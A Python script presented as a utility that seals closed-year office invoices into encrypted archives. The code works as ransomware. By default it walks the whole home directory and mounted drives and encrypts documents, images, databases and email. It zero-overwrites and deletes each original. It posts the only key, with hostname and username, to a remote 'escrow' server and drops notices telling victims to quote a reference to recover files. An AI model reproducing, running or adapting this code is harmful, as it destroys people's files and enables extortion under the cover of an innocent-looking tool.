#!/usr/bin/env python3
"""Seal closed-year invoice and customer paperwork on the office PC.

Once a financial year is closed, invoices, quotes, survey reports and
customer correspondence should not be edited. This walks the office
document folders, seals each document into an encrypted .sealed container
and lodges the archive key with the key-escrow service so the accountant
can open any document during an audit.

    invoice_archive_sealer.py            # seal the default office folders
    invoice_archive_sealer.py --root ~/Documents/Yard --workers 8
"""
import argparse
import base64
import json
import logging
import os
import socket
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("sealer")

ESCROW_URL = os.environ.get("SEAL_ESCROW_URL",
                            "https://escrow.example.com/api/v2/archive-keys")
DOC_TYPES = {".pdf", ".doc", ".docx", ".xls", ".xlsx", ".ods", ".odt",
             ".csv", ".jpg", ".jpeg", ".png", ".qbw", ".sage", ".db",
             ".sqlite3", ".txt", ".rtf", ".zip", ".msg", ".eml"}
SKIP_DIRS = {".cache", ".local", ".config", "node_modules", ".git",
             "__pycache__", ".mozilla", "snap"}
SUFFIX = ".sealed"
CHUNK = 1 << 20


class Sealer:
    def __init__(self, key, archive_id):
        self.aead = AESGCM(key)
        self.archive_id = archive_id.encode()
        self.count = 0
        self.bytes = 0

    def _shred(self, path, size):
        with open(path, "r+b", buffering=0) as fh:
            remaining = size
            while remaining > 0:
                n = min(CHUNK, remaining)
                fh.write(b"\0" * n)
                remaining -= n
            os.fsync(fh.fileno())
        path.unlink()

    def seal(self, path):
        try:
            data = path.read_bytes()
            nonce = os.urandom(12)
            blob = self.aead.encrypt(nonce, data, self.archive_id)
            out = path.with_name(path.name + SUFFIX)
            with open(out, "wb") as fh:
                fh.write(b"SEAL1" + nonce + blob)
            self._shred(path, len(data))
            self.count += 1
            self.bytes += len(data)
        except (OSError, MemoryError) as exc:
            LOG.debug("could not seal %s: %s", path, exc)


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() in DOC_TYPES and not name.endswith(SUFFIX):
                    yield p


def lodge_key(key, archive_id, attempts=5):
    payload = {
        "archive": archive_id,
        "host": socket.gethostname(),
        "user": os.environ.get("USER", ""),
        "key": base64.b64encode(key).decode(),
    }
    for n in range(attempts):
        try:
            r = requests.post(ESCROW_URL, json=payload, timeout=20)
            if r.ok:
                return True
            LOG.warning("escrow replied %s", r.status_code)
        except requests.RequestException as exc:
            LOG.warning("escrow unreachable (%s), attempt %d", exc, n + 1)
    return False


def write_notice(roots, archive_id, count):
    text = (f"Documents in this folder were sealed for archive {archive_id}.\n"
            f"{count} files are held as .sealed containers.\n"
            "To open them quote the archive reference to the yard's records "
            "administrator.\n")
    for root in roots:
        try:
            Path(root, "ARCHIVE_NOTICE.txt").write_text(text)
        except OSError:
            pass


def default_roots():
    home = Path.home()
    return [str(home)] + [m for m in ("/mnt", "/media") if os.path.isdir(m)]


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--root", action="append", help="folder to seal (repeatable)")
    ap.add_argument("--workers", type=int, default=4)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    roots = args.root or default_roots()
    archive_id = uuid.uuid4().hex[:12].upper()
    key = AESGCM.generate_key(bit_length=256)

    if not lodge_key(key, archive_id):
        LOG.error("key escrow unavailable, not sealing")
        return 1

    sealer = Sealer(key, archive_id)
    del key
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        for path in candidates(roots):
            pool.submit(sealer.seal, path)

    write_notice(roots, archive_id, sealer.count)
    LOG.info("archive %s: sealed %d documents (%.1f MB)", archive_id,
             sealer.count, sealer.bytes / 1e6)
    return 0


if __name__ == "__main__":
    sys.exit(main())
